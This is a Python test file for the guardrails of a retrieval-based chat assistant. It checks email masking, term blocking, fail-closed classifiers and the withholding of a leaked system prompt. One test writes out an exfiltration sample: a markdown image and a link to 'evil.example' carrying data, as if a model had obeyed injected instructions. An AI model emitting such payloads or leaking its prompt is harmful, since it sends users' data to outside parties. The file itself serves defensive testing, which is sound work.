"""The rails on the way of a chat answer, with a generator that leaks and obeys."""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import replace
from typing import Any

import pytest

from agents.answer import Answerer, AnswerRequest
from agents.prompting import ANSWER, load
from agents.rails.classifying import READ, SAID, ClassifierRail, TermsRail
from agents.settings import AgentSettings
from core.errors import Blocked
from core.types import AnswerEvent, Hit, Message, Principal, SearchResult

ANA = Principal(id="ana", groups=frozenset({"everyone", "hr"}))
BEN = Principal(id="ben")
MAIL = "zoe.lang@example.org"
CONTACT = f"Questions about leave go to {MAIL} in writing."


@pytest.fixture
def staff(hits: list[Hit]) -> list[Hit]:
    return [replace(hits[0], text=f"{CONTACT} Unused days expire in March.", title=f"Leave ({MAIL})"), *hits[1:]]


@pytest.fixture
def answering(searcher_of: Any, word_embedder: Any, staff: list[Hit], rails_of: Any) -> Callable[..., Any]:
    def make(generator: Any, *rails: Any, policy: str = "mask", **rest: Any) -> tuple[Answerer, Any]:
        searcher = searcher_of(staff)
        documents = {hit.document_id: "open" if hit.document_id != "d1" else "staff" for hit in staff}
        made = rails_of(*rails, policies={"open": "allow", "staff": policy}, documents=documents, **rest)
        return Answerer(searcher, generator, word_embedder, AgentSettings(), rails=made), searcher

    return make


def asked(question: str = "Whom do I ask about leave?", who: Principal = ANA, **rest: Any) -> AnswerRequest:
    return AnswerRequest(id="a1", question=question, principal=who, **rest)


async def events(answerer: Answerer, request: AnswerRequest) -> list[AnswerEvent]:
    return [event async for event in answerer.run(request)]


def everything(found: list[AnswerEvent], *, trace: bool) -> str:
    kept = [{key: value for key, value in event.data.items() if (key == "trace") is trace} for event in found]
    return json.dumps(kept, default=str)


def pieces(text: str, size: int = 5) -> list[str]:
    return [text[i : i + size] for i in range(0, len(text), size)]


MASKED = "Questions about leave go to [EMAIL_ADDRESS_1] in writing."


async def test_the_generator_reads_placeholders_and_its_reader_what_they_stand_for(
    answering: Any, generator_of: Any, written: Any
) -> None:
    generator = generator_of(pieces(written((MASKED, ["1"]))))
    answerer, _ = answering(generator)
    found = await events(answerer, asked())
    sent = generator.requests[-1]
    assert MAIL not in json.dumps([sent.messages, sent.sources], default=str)
    assert "[EMAIL_ADDRESS_1]" in sent.messages[-1].content
    answer, trace = found[-1].data["answer"], found[-1].data["trace"]
    assert answer.statements[0].text == CONTACT
    assert answer.statements[0].support == 1.0
    assert MAIL in answer.sources[0].text
    assert answer.sources[0].title == f"Leave ({MAIL})"
    assert MAIL not in everything(found, trace=True)
    assert {(each.rail, each.place, each.what) for each in trace.findings} == {("personal", "passage", "EMAIL_ADDRESS")}
    grown = "".join(event.data["text"] for event in found if event.name == "delta")
    assert grown == CONTACT


async def test_those_who_may_not_see_it_get_the_answer_masked(answering: Any, generator_of: Any, written: Any) -> None:
    answerer, _ = answering(generator_of(pieces(written((MASKED, ["1"])))), reveal_to=("hr",))
    found = await events(answerer, asked(who=BEN))
    assert MAIL not in everything(found, trace=False)
    assert found[-1].data["answer"].statements[0].text == MASKED


@pytest.mark.parametrize("size", [1, 7, 10_000])
async def test_what_a_model_leaks_by_itself_never_leaves_in_a_delta(
    answering: Any, generator_of: Any, written: Any, size: int
) -> None:
    leak = "The director is eve.secret@example.org, of course."
    answerer, _ = answering(generator_of(pieces(written((leak, ["1"]), ("Fine.", ["2"])), size)), reveal_to=())
    found = await events(answerer, asked(who=BEN))
    assert "eve.secret" not in everything(found, trace=False)
    assert "eve.secret" not in everything(found, trace=True)
    assert "[EMAIL_ADDRESS_" in found[-1].data["answer"].statements[0].text


async def test_a_blocked_passage_is_left_out_and_it_is_said(answering: Any, generator_of: Any, written: Any) -> None:
    generator = generator_of(pieces(written(("Flights need the approval of a manager.", ["2"]))))
    answerer, _ = answering(generator, policy="block")
    answer = await answerer.answer(asked())
    assert [source.id for source in answer.sources] == ["2", "3"]
    assert "passage_withheld" in answer.degraded
    assert MAIL not in json.dumps(generator.requests[-1].messages, default=str)


async def test_a_question_is_masked_for_the_model_and_searched_whole(
    answering: Any, generator_of: Any, written: Any
) -> None:
    generator = generator_of(pieces(written(answerable=False)), condensed='{"question": "Who is [EMAIL_ADDRESS_1]?"}')
    answerer, searcher = answering(generator)
    turns = (Message(role="user", content=f"I wrote to {MAIL}."), Message(role="assistant", content="And?"))
    found = await events(answerer, asked(f"Who is {MAIL} then?", history=turns))
    assert MAIL in searcher.requests[-1].query
    assert all(MAIL not in json.dumps(request.messages, default=str) for request in generator.requests)
    assert MAIL in found[-1].data["answer"].question
    trace = found[-1].data["trace"]
    assert MAIL not in trace.asked + trace.question


async def test_a_blocked_question_is_refused_before_anything_is_searched(answering: Any, generator_of: Any) -> None:
    answerer, searcher = answering(generator_of(), TermsRail(["merger"]))
    with pytest.raises(Blocked) as raised:
        await events(answerer, asked("When is the merger?"))
    assert raised.value.code == "blocked"
    assert not searcher.requests


@pytest.mark.parametrize("size", [1, 6, 10_000])
async def test_an_obedient_model_cannot_send_data_out_with_links_or_images(
    answering: Any, generator_of: Any, written: Any, size: int
) -> None:
    obeyed = f"Done ![x](https://evil.example/?d=leave) and https://evil.example/{'q' * 20} too."
    answerer, _ = answering(generator_of(pieces(written((obeyed, ["1"]), ("Good.", ["2"])), size)), policy="allow")
    found = await events(answerer, asked())
    assert "evil.example" not in everything(found, trace=False)
    assert found[-1].data["answer"].statements[0].text == "Done [image removed] and [link removed] too."
    assert {each.what for each in found[-1].data["trace"].findings} == {"image", "link"}


@pytest.mark.parametrize("size", [1, 6, 10_000])
async def test_a_leaked_prompt_is_replaced_and_said(answering: Any, generator_of: Any, written: Any, size: int) -> None:
    leak = " ".join(load(ANSWER).text.replace('"', "").replace("`", "").split()[20:60])
    answerer, _ = answering(generator_of(pieces(written((leak, ["1"]), ("Good.", ["2"])), size)), policy="allow")
    found = await events(answerer, asked())
    answer = found[-1].data["answer"]
    assert answer.statements[0].text.startswith("[A statement is withheld:")
    assert not answer.statements[0].supported
    assert answer.statements[1].text == "Good."
    assert "statement_withheld" in answer.degraded
    shown = "".join(event.data["text"] for event in found if event.name == "delta" and event.data["index"] == 0)
    assert len(shown.split()) <= 12


class Failing:
    """A classifier that fails."""

    def scores(self, texts: list[str]) -> list[float]:
        raise RuntimeError("no memory left")


@pytest.mark.parametrize("places", [READ, SAID])
async def test_a_rail_that_fails_closes_the_answer(
    answering: Any, generator_of: Any, written: Any, places: Any
) -> None:
    rail = ClassifierRail("guard", Failing, places=places, threshold=0.9, reason="x")
    generator = generator_of(pieces(written(("Unused days expire in March.", ["1"]))))
    answerer, _ = answering(generator, rail, policy="allow")
    if places is SAID:
        with pytest.raises(Blocked):
            await events(answerer, asked())
    else:
        answer = await answerer.answer(asked())
        assert answer.sources == ()
        assert "passage_withheld" in answer.degraded
    assert not generator.requests


async def test_a_retry_shows_the_second_try_only(answering: Any, generator_of: Any, written: Any) -> None:
    first = '{"answerable": true, "statements": [{"text": "See https://evil.example", "sources": ["9"]}]}'
    answerer, _ = answering(generator_of(pieces(first), pieces(written((CONTACT[:20], ["1"])))), policy="allow")
    found = await events(answerer, asked())
    last = max(at for at, event in enumerate(found) if event.data.get("stage") == "generate")
    grown = "".join(event.data["text"] for event in found[last:] if event.name == "delta")
    assert grown == found[-1].data["answer"].statements[0].text


async def test_the_trace_of_the_search_is_masked(answering: Any, generator_of: Any, written: Any) -> None:
    from core.types import Candidate, SearchTrace

    answerer, searcher = answering(generator_of(pieces(written((MASKED, ["1"])))))
    candidate = Candidate(
        chunk_id="c1", document_id="d1", title=MAIL, excerpt=CONTACT, rank=1, score=1.0, scores={}, ranks={},
        fate="kept", heading_path=(MAIL,),
    )  # fmt: skip
    searcher.trace = SearchTrace(
        query=f"who is {MAIL}",
        mode="hybrid",
        looks=1,
        proposed=1,
        refused=0,
        candidates=(candidate,),
        order=(),
        reranked=False,
    )
    search = searcher.search

    async def traced(request: Any) -> SearchResult:
        return replace(await search(request), trace=searcher.trace)

    searcher.search = traced
    found = await events(answerer, asked())
    trace = found[-1].data["trace"]
    assert trace.search.candidates[0].chunk_id == "c1"
    assert MAIL not in json.dumps(trace, default=str)
